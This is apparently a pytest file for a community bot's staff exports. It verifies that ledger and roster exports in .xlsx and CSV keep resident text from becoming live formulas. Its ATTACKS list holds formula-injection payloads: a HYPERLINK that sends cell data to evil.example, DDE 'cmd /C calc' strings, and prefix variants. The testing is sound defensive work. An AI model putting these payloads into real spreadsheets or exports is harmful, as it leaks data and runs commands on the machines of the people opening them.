"""Exports write resident text as text: never a live formula in .xlsx, never a bare "=…" in CSV."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime as dt

import openpyxl
import pytest

from bot.storage.models import Event, Registration
from bot.web.exports import csv_safe
from tests.workbench_helpers import STAFF, login, make_ticket

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cell_is_never_a_formula(text):
    assert csv_safe(text) == "'" + text
    assert csv_safe("楼道灯坏了") == "楼道灯坏了" and csv_safe(5) == "5" and csv_safe(None) == ""


def _sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


def test_ledger_xlsx_and_csv_keep_formulas_as_text(client, steward):
    with steward.session() as s:
        for i, text in enumerate(ATTACKS):
            make_ticket(s, text=text, courtyard="c3", created_at=dt(2026, 3, 2 + i))
    login(client, STAFF)
    resp = client.get("/staff/ledger/export.xlsx?month=2026-03&courtyard=c3")
    assert resp.status_code == 200 and resp.headers["Cache-Control"] == "no-store"
    assert "<f>" not in _sheet_xml(resp.data)  # no formula element anywhere in the sheet
    ws = openpyxl.load_workbook(io.BytesIO(resp.data)).active
    summaries = [row[3] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in summaries)
    assert summaries[0].value.startswith("=HYPERLINK") and summaries[0].quotePrefix

    resp = client.get("/staff/ledger/export.csv?month=2026-03&courtyard=c3")
    assert resp.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    texts = [r[3] for r in rows[1:]]
    assert len(texts) == len(ATTACKS)
    assert all(t.startswith("'") for t in texts), texts


def test_roster_exports_keep_formulas_as_text(client, steward):
    with steward.session() as s:
        ev = Event(title="义诊", starts_at=dt(2026, 3, 2), place="活动室", capacity=10)
        s.add(ev)
        s.flush()
        s.add(Registration(event_id=ev.id, openid="o-res-1", name="=1+2", phone="+8613800000000"))
        s.add(Registration(event_id=ev.id, openid="o-res-2", name="@A1", phone="13800000001"))
        event_id = ev.id
    login(client, STAFF)
    resp = client.get(f"/staff/events/{event_id}/roster.xlsx")
    assert resp.status_code == 200 and resp.headers["Cache-Control"] == "no-store"
    assert "<f>" not in _sheet_xml(resp.data)
    ws = openpyxl.load_workbook(io.BytesIO(resp.data)).active
    assert [(r[1].value, r[1].data_type) for r in ws.iter_rows(min_row=2)] == [("=1+2", "s"), ("@A1", "s")]
    assert ws.cell(row=2, column=1).value == 1  # numbers stay numbers
    body = client.get(f"/staff/events/{event_id}/roster.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][1:3] == ["'=1+2", "'+8613800000000"] and rows[2][1:3] == ["'@A1", "13800000001"]
